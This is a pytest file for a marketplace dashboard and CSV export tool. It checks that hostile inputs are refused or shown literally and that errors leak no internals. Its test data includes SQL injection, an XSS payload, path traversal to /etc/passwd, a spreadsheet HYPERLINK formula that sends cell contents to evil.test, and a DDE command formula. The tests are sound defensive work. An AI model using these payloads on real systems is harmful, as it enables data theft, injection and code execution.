"""What nobody should type: a clear message or a literal match, on screens, in files, in answers."""

import asyncio
import csv
from collections.abc import Callable, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import Result
from starlette.applications import Starlette
from starlette.routing import Route
from starlette.types import Message
from typer.testing import CliRunner

from dashboard.frame import server
from dashboard.frame.links import KEYS
from dashboard.frame.shell import show
from dashboard.screens import OWN, SCREENS
from etl import faults
from etl.cli import app
from etl.refresh.publish import publish
from queries.people import LOCAL
from tests import random_marketplace
from tests.conftest import SharedDatabase
from tests.dashboard.app import run
from tests.factories import ist, make_search, make_user
from tests.postgres import Database

HOSTILE = (
    "\x00tap\x00",
    "'; DROP TABLE users; --",
    '=HYPERLINK("http://evil.test/?"&A1)',
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.test/cur.png)",
    "../../etc/passwd%00",
    "%_\\",
    "9" * 400,
    "2025-13-45",
    "\u202e\ufeff\u200b",
)

FORMULAS = ("=sum(a1:a9)", "+cmd|' /c calc'!a1", "-2+a1", "@sum(a1:a9)", "\t=1+a1")
"""Terms that a spreadsheet would run."""

LONG = "tap " * 262_144
"""A query of one megabyte."""

SEARCHERS = 6
"""So many that a term is not of few people."""

LEAKS = ("Traceback", "SELECT ", 'File "/', "psycopg", "sqlalchemy", "Something went wrong")


def load(database: Database) -> None:
    """Add what hostile people searched for to a marketplace, and publish it."""
    random_marketplace.load(database)
    with database.connect() as connection:
        people = [make_user(connection) for _ in range(SEARCHERS)]
        for query in (*FORMULAS, *HOSTILE[1:], LONG):
            for person in people:
                moment = ist("2025-03-01 12:00")
                make_search(connection, created_at=moment, query=query, user_id=person)
    publish(database.owner_url)


@pytest.fixture(autouse=True)
def hostile(shared_database: SharedDatabase, use_database: Callable[[Database], None]) -> Database:
    """A marketplace with hostile searches, which the settings name."""
    made = shared_database("hostile_input", load)
    use_database(made)
    return made


def page_of(screen: str, link: Mapping[str, str]) -> tuple[list[str], list[str]]:
    """Return what a screen says that it could not show, and what of a link it did not mean."""
    page = run(show, SCREENS[screen], LOCAL, **link)
    said = [box.value for box in (*page.error, *page.warning, *page.info)]
    assert not [leak for leak in LEAKS for each in said if leak in each], said
    return [box.value for box in page.error], [box.value for box in page.warning]


@pytest.mark.proof
@pytest.mark.parametrize("screen", SCREENS)
def test_any_value_in_a_link_is_named_or_matched_literally(screen: str) -> None:
    params = (*KEYS, *sorted(OWN), "trail", "nobody")
    for shift in (0, 1, 2):
        given = {name: HOSTILE[(place + shift) % len(HOSTILE)] for place, name in enumerate(params)}
        wrong, _ = page_of(screen, given | {"tab": ""})
        assert wrong == []


@pytest.mark.parametrize(
    ("link", "said"),
    [
        ({"from": "2025-03-10", "to": "2025-03-01"}, "The dates are reversed"),
        ({"district": "Atlantis"}, "There is no district `Atlantis`"),
        ({"period": "\x00"}, "There is no period ``"),
        ({"category": "x" * 500_000}, "There is no category `xxx"),
        ({"from": "yesterday"}, "`yesterday` is not a date like 2025-01-31"),
    ],
)
def test_what_a_link_cannot_mean_is_said(link: dict[str, str], said: str) -> None:
    wrong, warned = page_of("bookings", link)
    assert wrong == []
    assert said in warned[0]
    assert len(warned[0]) < 2_000


@pytest.mark.parametrize("text", HOSTILE[:3])
def test_words_that_are_looked_for_are_found_literally(text: str) -> None:
    wrong, _ = page_of("search", {"find": text, "from": "2025-03-01", "to": "2025-03-02"})
    assert wrong == []


def test_a_screen_shows_hostile_terms_and_ends_long_ones() -> None:
    page = run(show, SCREENS["search"], LOCAL, **{"from": "2025-03-01", "to": "2025-03-02"})
    assert not page.error
    terms = [term for frame in page.dataframe for term in frame.value.iloc[:, 0].astype(str)]
    assert FORMULAS[0] in terms
    assert max(map(len, terms)) <= 200


def exported(*words: str | Path) -> Result:
    return CliRunner().invoke(app, ["export", *map(str, words)])


def test_no_formula_is_in_a_file(tmp_path: Path) -> None:
    days = [f"{end}=2025-03-0{day}" for end, day in (("start", 1), ("end", 2))]
    now = [f"now_{each}" for each in days]
    shown = ("before_start=", "before_end=", "which=most_searched", "text=a1", "most=")
    file = tmp_path / "terms.csv"
    asked = [word for each in (*days, *now, *shown) for word in ("--param", each)]
    done = exported("search_terms", *asked, "--out", file)
    assert done.exit_code == 0, done.output
    with file.open(encoding="utf-8-sig", newline="") as opened:
        terms = [row[0] for row in csv.reader(opened)]
    assert not [term for term in terms if term[:1] in "=+-@\t\r\n" and term]
    assert {f"'{term}" for term in FORMULAS[:4]} <= {*terms}


@pytest.mark.parametrize(
    "words",
    [
        ("requested", "--from", "2025-03-10", "--to", "2025-03-01"),
        ("requested", "--from", "2025-13-45"),
        ("requested", "--where", "district=\udcff"),
        ("requested", "--where", "nonsense"),
        ("requested", "--by", "'; DROP TABLE users; --"),
        ("=1+1",),
        ("search_terms", "--param", f"text={LONG}"),
        ("provider_profile", "--param", "provider=\udcff"),
        ("provider_profile", "--param", "nonsense=1"),
    ],
    ids=lambda words: " ".join(words)[:40].encode("ascii", "replace").decode(),
)
def test_what_a_command_cannot_do_is_said(words: Sequence[str], tmp_path: Path) -> None:
    done = exported(*words, "--out", tmp_path / "file.csv")
    said = said_by(done)
    assert done.exit_code in (1, 2), said
    assert not [leak for leak in LEAKS if leak in said], said
    assert [*tmp_path.iterdir()] == []


def said_by(done: Result) -> str:
    """Return what a command said; an error that is no fault of the program's is one line."""
    if done.exception is None or isinstance(done.exception, SystemExit):
        return done.output
    assert isinstance(done.exception, Exception)
    said = faults.line(done.exception)
    assert said is not None, repr(done.exception)
    assert len(said) < 1_000
    return said


@pytest.mark.parametrize(
    ("path", "query", "status"),
    [
        ("/file", b"link=%00", 403),
        ("/file", b"link=" + b"x" * 1_000_000, 403),
        ("/file", b"link=%ED%A0%80%FF", 403),
        ("/manifest", b"link='; DROP TABLE users; --", 403),
        ("/file/../../etc/passwd", b"", 404),
        ("/\x00", b"", 404),
        ("/<script>", b"", 404),
    ],
)
def test_an_address_that_nobody_made_is_refused(path: str, query: bytes, status: int) -> None:
    begin, body = answered(path, query)
    assert begin["status"] == status
    assert not [leak for leak in LEAKS if leak in body], body
    assert "DROP" not in body


def answered(path: str, query: bytes) -> tuple[Message, str]:
    """Return how the server answers, and with what."""
    inner = Starlette(routes=[Route(path, answer) for path, answer in server.SIGNED.items()])
    gate = replace(server.application(8501, ["127.0.0.1"]), app=inner)
    sent: list[Message] = []

    async def receive() -> Message:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Message) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": query,
        "root_path": "",
        "headers": [(b"host", b"127.0.0.1:8501")],
        "client": ("127.0.0.1", 1),
        "server": ("127.0.0.1", 8501),
    }
    with ThreadPoolExecutor(1) as apart:  # a browser's loop may run in this thread
        apart.submit(asyncio.run, gate(scope, receive, send)).result()
    begin, *parts = sent
    return begin, b"".join(part.get("body", b"") for part in parts).decode()
